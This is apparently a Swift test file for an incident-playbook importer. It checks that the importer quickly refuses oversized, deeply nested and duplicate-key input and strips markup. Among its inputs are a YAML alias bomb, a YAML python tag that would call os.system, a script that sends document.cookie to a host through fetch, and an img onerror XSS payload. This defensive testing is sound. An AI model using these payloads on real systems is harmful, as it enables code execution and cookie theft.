import IncidentCore
import PlaybookExchange
import PlaybookFormat
import Testing

/// The list of bad input, one line each: an answer at once or a refusal that names the place, and
/// nothing half taken in.
struct BadInputTests {
  /// A file, and the rule it is refused by; nil where it is taken.
  struct Bad: Sendable, CustomTestStringConvertible {
    var testDescription: String
    var format: ForeignFormat?
    var rule: String?
    var hasPlace = true
    var bytes: @Sendable () -> [UInt8]

    init(
      _ name: String, _ rule: String?, from format: ForeignFormat? = nil, hasPlace: Bool = true,
      _ text: @escaping @Sendable () -> String
    ) {
      testDescription = name
      self.rule = rule
      self.format = format
      self.hasPlace = hasPlace
      bytes = { Array(text().utf8) }
    }
  }

  /// A file of `size` bytes: `head`, then `piece` again and again, then `tail`.
  private static func filled(
    _ size: Int, _ head: String, _ piece: String, _ tail: String
  ) -> String {
    let count = (size - head.utf8.count - tail.utf8.count) / piece.utf8.count
    return head + String(repeating: piece, count: count) + tail
  }

  private static let largest = 5 << 20

  static let all: [Bad] = [
    Bad("5 MiB of JSON in one text", nil) {
      filled(
        largest, #"{"tasks":[{"title":"a","group":"Containment","description":""#, "字", #""}]}"#)
    },
    Bad("5 MiB of JSON tasks", "too-many-values") {
      filled(
        largest, #"{"titlePrefix":"x","tasks":[{"title":"a"}"#, #",{"title":"a","group":"x"}"#, "]}"
      )
    },
    Bad("5 MiB of JSON and a byte", "too-large", hasPlace: false) {
      String(repeating: " ", count: largest + 1)
    },
    Bad("5 MiB of Markdown tasks", "too-many-lines") {
      filled(largest, "# T\n\n", "- [ ] do this\n", "")
    },
    Bad("5 MiB of Markdown without a line end", "no-tasks") {
      filled(largest, "# T\n\n", "字", "")
    },
    Bad("1 MiB of YAML and a byte", "too-large", from: .react, hasPlace: false) {
      String(repeating: "#", count: 1 << 20 + 1)
    },
    Bad("10,000 steps", "too-many-tasks", from: .iris) {
      #"{"tasks":["# + String(repeating: #"{"title":"a"},"#, count: 10_000) + #"{"title":"b"}]}"#
    },
    Bad("depth 10,000 in JSON", "too-deep") {
      #"{"tasks":"# + String(repeating: "[", count: 10_000)
        + String(repeating: "]", count: 10_000) + "}"
    },
    Bad("depth 10,000 in YAML", "too-deep", from: .react) {
      "containment: " + String(repeating: "[", count: 10_000)
        + String(repeating: "]", count: 10_000)
    },
    Bad("depth 10,000 in Markdown", nil) {
      "- [ ] outer\n"
        + (1...10_000).map { String(repeating: " ", count: min($0, 200)) + "- x\n" }
        .joined()
    },
    Bad("an alias bomb", "anchor", from: .react) {
      "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a]\ncontainment: [*b,*b,*b,*b]\n"
    },
    Bad("a merge key", "alias", from: .react) { "containment: [x]\nb:\n  <<: *a\n" },
    Bad("a tag that would run", "tag", from: .react) {
      "containment: !!python/object/apply:os.system ['touch /tmp/x']\n"
    },
    Bad("two equal keys in JSON", "duplicate-key") { #"{"tasks":[],"tasks":[{"title":"a"}]}"# },
    Bad("two equal keys in YAML", "duplicate-key", from: .react) {
      "id: x\ncontainment: [a]\ncontainment: [b]\n"
    },
    Bad("a script", nil) {
      "# T\n\n- [ ] <script>fetch('http://x/'+document.cookie)</script>do it\n"
    },
    Bad("markup in a table", nil) {
      "# T\n\n| Task | Done |\n|---|---|\n| <img src=x onerror=alert(1)>do it | <input type=\"checkbox\" /> |\n"
    },
  ]

  @Test(arguments: all)
  func `bad input is answered at once, whole or not at all`(_ bad: Bad) throws {
    let bytes = bad.bytes()
    var result: PlaybookImporter.Result?
    var refusal: ImportRefusal?
    let elapsed = ContinuousClock().measure {
      do throws(ImportRefusal) {
        result = try PlaybookImporter(format: bad.format)
          .read([ForeignFile(name: "bad", bytes: bytes)])
      } catch {
        refusal = error
      }
    }
    #expect(refusal?.rule == bad.rule, "\(refusal?.text(in: .english) ?? "")")
    if bad.rule != nil, bad.hasPlace { #expect(refusal?.position != nil) }
    if let result {
      #expect(!result.yaml.contains("<script") && !result.yaml.contains("onerror"))
      #expect(PlaybookReader().read(Array(result.yaml.utf8), file: "f").playbook != nil)
    }
    // A second is asked for of the release program, which needs a tenth of what this build does;
    // docs/fuzzing.md has its figures.
    #expect(elapsed < .seconds(20), "\(bad.testDescription): \(elapsed)")
  }

  @Test(
    arguments: [
      ([0xFF, 0xFE, 0x7B, 0x00], "UTF-16"), ([0xFE, 0xFF, 0x00, 0x7B], "UTF-16"),
      ([0x7B, 0x22, 0x83, 0x5E, 0x83, 0x58, 0x83, 0x4E, 0x22], "Shift_JIS"),
    ] as [([UInt8], String)])
  func `a wrong encoding is named also where the file is no Markdown`(
    bytes: [UInt8], name: String
  ) throws {
    #expect(Sample.refusal(of: bytes)?.problem == .encoding(name))
  }
}
